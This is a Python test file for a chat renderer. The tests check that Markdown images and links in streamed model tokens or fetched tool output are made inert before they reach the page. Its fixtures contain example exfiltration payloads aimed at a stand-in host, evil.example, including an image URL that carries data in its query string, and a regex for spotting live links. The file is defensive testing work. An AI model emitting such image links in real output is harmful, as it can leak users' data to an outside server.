"""What the page is sent of a model's words and a tool's fetched text holds no image to load and no
link to follow, at any moment of the stream (issue 20, point 5)."""
from __future__ import annotations

import asyncio
import re

from langchain_core.messages import AIMessage

from chat.views.render import STREAM_GAP_S, Renderer
from graph.core.events import NodeDone, Token, ToolFinished, ToolStarted
from graph.core.plan import RunPlan as Plan

# What a Markdown page loads or follows: a whole image or link, or an address outside code (an
# unfinished "![chart](http://…" is text until its ")" comes).
LIVE = re.compile(r"\[[^\]\n]*\]\([^)\n]*\)|(?<![`\w])(?:https?://|www\.)")


def page_texts(emitter, message_id: str) -> list[str]:
    """Every text the page showed for a message, send after send."""
    shown, texts = "", []
    for name, data in emitter.events:
        if data.get("id") != message_id:
            continue
        if name in ("stream_start", "update_message", "new_message"):
            shown = data.get("output") or ""
        elif name == "stream_token":
            shown += data["token"]
        texts.append(shown)
    return texts


async def test_a_streamed_image_and_link_never_reach_the_page_live(emitter):
    r = Renderer(Plan())
    # A model's tokens split an address, as a real tokenizer does.
    tokens = ["The ", "post ", "says ", "![", "chart", "](", "http", "://", "evil.", "example", "/x.png", "?d=",
              "NVDA", ") ", "and ", "[", "read", "](", "https", "://", "evil.example", "/b", ") ", "now."]
    for token in tokens:
        await r.handle(Token("Bear Researcher", token))
        await asyncio.sleep(STREAM_GAP_S / 2)  # the page takes words as they come
    await r.handle(NodeDone("bear", {"messages": [AIMessage(content="".join(tokens), name="Bear Researcher")]}))
    bear, = emitter.by_author("Bear Researcher")
    texts = page_texts(emitter, bear["id"])
    assert len(texts) > 3, "it streamed"
    assert not [t for t in texts if LIVE.search(t)], texts
    assert bear["output"] == "The post says [image not shown: chart] and read (`https://evil.example/b`) now."


async def test_a_tool_steps_fetched_text_is_inert(emitter):
    r = Renderer(Plan())
    await r.handle(ToolStarted("News Analyst", "get_company_news", {}, "c1"))
    await r.handle(ToolFinished("News Analyst", "get_company_news", "c1",
                                "<quoted>\n2026-11-25 Wire: NVDA ![x](http://evil.example/p.png)\n</quoted>"))
    step = next(m for m in emitter.messages.values() if m["type"] == "tool")
    assert "[image not shown: x]" in step["output"] and not LIVE.search(step["output"])
